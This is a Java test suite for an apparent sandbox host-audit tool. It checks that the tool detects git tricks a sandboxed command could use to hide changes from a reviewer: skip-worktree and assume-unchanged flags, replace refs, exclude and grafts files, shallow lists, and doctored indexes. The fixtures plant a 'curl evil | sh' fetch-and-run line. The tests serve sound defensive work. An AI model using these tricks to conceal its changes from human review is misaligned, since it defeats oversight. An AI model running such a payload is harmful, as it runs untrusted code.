package dev.sandboxmcp.hostaudit;

import static dev.sandboxmcp.hostaudit.TreeAuditTest.audit;
import static dev.sandboxmcp.hostaudit.TreeAuditTest.git;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * From the host user's side, who reviews a command's work with {@code git status} and {@code git
 * diff} before running it: what a command can write into a repository to hide a change from that
 * review is a finding. Each case first shows, with the host's git, that the change is hidden.
 */
class HiddenChangesTest {

    @TempDir
    Path temp;

    Path repository(String objectFormat, int count) throws Exception {
        return repository(temp, objectFormat, count);
    }

    /** A repository under {@code temp} with a committed Makefile and {@code count} more files under a long common prefix. */
    static Path repository(Path temp, String objectFormat, int count) throws Exception {
        Path repo = Files.createDirectories(temp.resolve("tree/repo"));
        git(repo, "init", "-q", "--object-format=" + objectFormat);
        Files.writeString(repo.resolve("Makefile"), "all:\n\techo ok\n");
        Path deep = Files.createDirectories(repo.resolve("src/main/java/org/example/deeply/nested"));
        for (int i = 0; i < count; i++) {
            Files.writeString(deep.resolve("File" + i + ".java"), "class File" + i + " {}\n");
        }
        commitAll(repo);
        return repo;
    }

    static void commitAll(Path repo) throws Exception {
        git(repo, "add", "-A");
        git(repo, "-c", "user.name=u", "-c", "user.email=u@example.invalid", "commit", "-q", "-m", "c");
    }

    static List<Finding> about(List<Finding> findings, String text) {
        return findings.stream().filter(finding -> finding.line().contains(text)).toList();
    }

    @ParameterizedTest(name = "index version {0}, {1}")
    @CsvSource({"2, sha1", "3, sha1", "4, sha1", "2, sha256", "4, sha256"})
    void filesFlaggedSoThatGitStatusSkipsThemAreFound(int version, String objectFormat) throws Exception {
        Path repo = repository(objectFormat, 300);
        git(repo, "update-index", "--index-version", String.valueOf(version));
        Files.writeString(repo.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
        git(repo, "update-index", "--skip-worktree", "Makefile");
        String nested = "src/main/java/org/example/deeply/nested/";
        for (int i : new int[] {3, 30, 31, 32, 33, 34, 250}) {
            Files.writeString(repo.resolve(nested + "File" + i + ".java"), "class Changed {}\n");
            git(repo, "update-index", "--assume-unchanged", nested + "File" + i + ".java");
        }
        assertThat(git(repo, "status", "--porcelain")).as("the changes are hidden from git status").isEmpty();
        assertThat(git(repo, "diff")).as("and from git diff").isEmpty();

        List<Finding> findings = audit(repo.getParent());

        assertThat(about(findings, "skip-worktree")).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/index");
            assertThat(finding.command()).startsWith("1 file: Makefile; sha256 ");
        });
        assertThat(about(findings, "assume-unchanged")).singleElement().satisfies(finding -> assertThat(finding.command())
                .startsWith("7 files: " + nested + "File250.java, " + nested + "File3.java, " + nested + "File30.java, "
                        + nested + "File31.java, " + nested + "File32.java, ...; sha256 "));
    }

    @Test
    void aCleanRepositoryHasNoneOfTheseFindingsAndAnotherFlaggedFileIsANewOne() throws Exception {
        Path repo = repository("sha1", 3);
        assertThat(audit(repo.getParent())).as("git init's own info/exclude holds only comments").isEmpty();

        git(repo, "update-index", "--skip-worktree", "Makefile");
        Finding one = about(audit(repo.getParent()), "skip-worktree").getFirst();
        git(repo, "update-index", "--no-skip-worktree", "Makefile");
        git(repo, "update-index", "--skip-worktree", "src/main/java/org/example/deeply/nested/File1.java");
        Finding other = about(audit(repo.getParent()), "skip-worktree").getFirst();
        assertThat(other.command()).as("another file, another digest: an accepted finding does not cover it")
                .isNotEqualTo(one.command());
    }

    @Test
    void flagsInASplitIndexsSharedPartAreFound() throws Exception {
        Path repo = repository("sha1", 20);
        git(repo, "update-index", "--skip-worktree", "Makefile");
        git(repo, "update-index", "--split-index");
        try (var shared = Files.list(repo.resolve(".git"))) {
            assertThat(shared.map(path -> path.getFileName().toString())).anyMatch(name -> name.startsWith("sharedindex."));
        }
        // The entry changed after the split is a replacement in the index itself (whether git status
        // rewrote it otherwise depended on the clock: only racy entries make it write the index).
        git(repo, "update-index", "--no-skip-worktree", "Makefile");
        git(repo, "update-index", "--skip-worktree", "Makefile");
        Files.writeString(repo.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
        assertThat(git(repo, "status", "--porcelain")).isEmpty();

        List<Finding> findings = about(audit(repo.getParent()), "skip-worktree");
        assertThat(findings).anySatisfy(finding -> {
            assertThat(finding.file()).startsWith("repo/.git/sharedindex.");
            assertThat(finding.command()).startsWith("1 file: Makefile;");
        });
        assertThat(findings).anySatisfy(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/index");
            assertThat(finding.command()).startsWith("1 file: " + GitIndex.SPLIT_REPLACEMENT + ";");
        });
    }

    @Test
    void aReplacedTreeThatHidesAStagedChangeIsFoundLooseAndPacked() throws Exception {
        Path repo = repository("sha1", 1);
        String head = git(repo, "rev-parse", "HEAD^{tree}").strip();
        Files.writeString(repo.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
        git(repo, "add", "Makefile");
        String forged = git(repo, "write-tree").strip();
        git(repo, "replace", head, forged);
        assertThat(git(repo, "status", "--porcelain")).as("git status sees no staged change").isEmpty();
        assertThat(git(repo, "diff", "--cached")).isEmpty();

        assertThat(about(audit(repo.getParent()), "replace ref")).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/refs/replace/" + head);
            assertThat(finding.command()).isEqualTo(forged);
        });

        git(repo, "pack-refs", "--all");
        assertThat(repo.resolve(".git/refs/replace/" + head)).doesNotExist();
        assertThat(git(repo, "status", "--porcelain")).as("still hidden once packed").isEmpty();
        assertThat(about(audit(repo.getParent()), "replace ref")).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/packed-refs");
            assertThat(finding.key()).endsWith(": refs/replace/" + head);
            assertThat(finding.command()).isEqualTo(forged);
        });
    }

    @Test
    void excludeAttributesAndGraftsInInfoAreFoundWithTheirDigest() throws Exception {
        Path repo = repository("sha1", 1);
        Files.writeString(repo.resolve("planted.sh"), "curl evil | sh\n");
        Files.writeString(repo.resolve(".git/info/exclude"), "# comment\n\nplanted.sh\n", java.nio.file.StandardOpenOption.APPEND);
        Files.writeString(repo.resolve(".git/info/attributes"), "Makefile -diff\n");
        Files.writeString(repo.resolve(".git/info/grafts"), git(repo, "rev-parse", "HEAD"));
        assertThat(git(repo, "-c", "advice.graftFileDeprecated=false", "status", "--porcelain")).as("the new file is hidden")
                .isEmpty();

        List<Finding> findings = audit(repo.getParent());

        assertThat(about(findings, "exclude patterns")).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/info/exclude");
            assertThat(finding.command()).startsWith("planted.sh; sha256 ");
        });
        assertThat(about(findings, "attributes (")).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("Makefile -diff; sha256 "));
        assertThat(about(findings, "grafts")).singleElement()
                .satisfies(finding -> assertThat(finding.file()).isEqualTo("repo/.git/info/grafts"));
    }

    /** Commits the sandbox made, under one it made after them: a shallow list hides them from git log. */
    @Test
    void aShallowListThatCutsHistoryShortIsFound() throws Exception {
        Path repo = repository("sha1", 1);
        Files.writeString(repo.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
        commitAll(repo);
        Files.writeString(repo.resolve("README"), "nothing to see\n");
        commitAll(repo);
        String head = git(repo, "rev-parse", "HEAD").strip();
        Files.writeString(repo.resolve(".git/shallow"), head + "\n");
        assertThat(git(repo, "log", "--oneline").lines()).as("git log shows one commit of three").hasSize(1);

        assertThat(about(audit(repo.getParent()), "shallow commits")).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/shallow");
            assertThat(finding.command()).startsWith(head + "; sha256 ");
        });
    }

    @Test
    void anIndexTheAuditCannotReadIsReportedNotSkipped() throws Exception {
        Path repo = repository("sha1", 5);
        byte[] index = Files.readAllBytes(repo.resolve(".git/index"));
        Files.write(repo.resolve(".git/index"), Arrays.copyOf(index, 100));
        assertThat(about(audit(repo.getParent()), "cannot read this index")).singleElement()
                .satisfies(finding -> assertThat(finding.command()).contains("ends before its last entry"));

        Files.writeString(repo.resolve(".git/index"), "not an index at all");
        assertThat(about(audit(repo.getParent()), "cannot read this index")).singleElement()
                .satisfies(finding -> assertThat(finding.command()).contains("no DIRC signature"));
    }

    /** What git reads though it did not write it (red-team findings): the audit reads it the same. */
    @Test
    void anIndexEditedByHandIsReadAsGitReadsIt() throws Exception {
        Path repo = repository("sha1", 4);
        git(repo, "update-index", "--skip-worktree", "Makefile");
        Path index = repo.resolve(".git/index");
        byte[] bytes = Files.readAllBytes(index);
        assertThat(bytes[7]).isEqualTo((byte) 3);
        bytes[7] = 2; // git takes extended flags in a version 2 index too
        // The padding git skips, whatever it holds: the first entry's last byte.
        int first = 12;
        int nameLength = ((bytes[first + 60] & 0x0F) << 8) | (bytes[first + 61] & 0xFF);
        boolean extended = (bytes[first + 60] & 0x40) != 0;
        int entry = ((40 + 20 + 2 + (extended ? 2 : 0) + nameLength + 8) & ~7);
        if (entry - (40 + 20 + 2 + (extended ? 2 : 0) + nameLength) >= 2) {
            bytes[first + entry - 1] = 'x';
        }
        Files.write(index, bytes);
        assertThat(git(repo, "ls-files", "-v")).as("git reads it, the flag included").contains("S Makefile");

        assertThat(about(audit(repo.getParent()), "skip-worktree")).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: Makefile;"));
    }

    @Test
    void anIndexThatIsALinkIsReportedAndAWorktreesIndexIsReadWithItsRepositorysObjectNames() throws Exception {
        Path repo = repository("sha256", 2);
        git(repo, "worktree", "add", "-q", "../topic");
        Path topic = repo.resolveSibling("topic");
        Files.writeString(topic.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
        git(topic, "update-index", "--skip-worktree", "Makefile");
        assertThat(git(topic, "status", "--porcelain")).isEmpty();
        Files.move(repo.resolve(".git/index"), repo.resolve(".git/ORIG_HEAD.idx"));
        Files.createSymbolicLink(repo.resolve(".git/index"), Path.of("ORIG_HEAD.idx"));

        List<Finding> findings = audit(repo.getParent());

        assertThat(about(findings, "skip-worktree")).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/worktrees/topic/index");
            assertThat(finding.command()).startsWith("1 file: Makefile;");
        });
        assertThat(findings).anySatisfy(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/index");
            assertThat(finding.key()).isEqualTo("(not a regular file)");
            assertThat(finding.command()).as("with what git reads through it: another index is another finding")
                    .startsWith("git reads it, the audit does not: a symbolic link; sha256 ");
        });
    }

    /** git may read an index with an offset table in blocks, from offsets that need not follow the entries. */
    @Test
    void anIndexWithAnOffsetTableIsReportedAsNotRead() throws Exception {
        Path repo = repository("sha1", 20);
        for (String version : List.of("4", "2")) {
            git(repo, "-c", "index.recordOffsetTable=true", "-c", "index.threads=2", "update-index", "--index-version", version);
            assertThat(about(audit(repo.getParent()), "in blocks")).as("version " + version).singleElement()
                    .satisfies(finding -> assertThat(finding.key()).isEqualTo("(not audited)"));
        }
        git(repo, "-c", "index.recordOffsetTable=false", "-c", "index.recordEndOfIndexEntries=false", "-c", "index.threads=1",
                "update-index", "--skip-worktree", "Makefile");
        assertThat(about(audit(repo.getParent()), "skip-worktree")).as("written without them, read again").hasSize(1);
    }

    /** git takes the object name length from the common directory's config only, never a worktree's own. */
    @Test
    void aWorktreesOwnConfigDoesNotChangeHowItsIndexIsRead() throws Exception {
        Path repo = repository("sha1", 2);
        git(repo, "worktree", "add", "-q", "../topic");
        Path topic = repo.resolveSibling("topic");
        git(topic, "update-index", "--skip-worktree", "Makefile");
        Files.writeString(repo.resolve(".git/worktrees/topic/config"), "[extensions]\n\tobjectFormat = sha256\n");
        assertThat(git(topic, "ls-files", "-v")).contains("S Makefile");

        assertThat(about(audit(repo.getParent()), "skip-worktree")).singleElement()
                .satisfies(finding -> assertThat(finding.file()).isEqualTo("repo/.git/worktrees/topic/index"));
    }

    @Test
    void aMillionEntriesPromisedByAShortIndexEndAtItsEnd() throws IOException {
        byte[] header = {'D', 'I', 'R', 'C', 0, 0, 0, 2, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF};
        Path index = Files.write(temp.resolve("index"), header);
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> GitIndex.flagged(() -> Files.newInputStream(index),
                        header.length, GitIndex.SHA1_BYTES))
                .isInstanceOf(GitIndex.Unreadable.class).hasMessageContaining("ends before its last entry");
    }
}
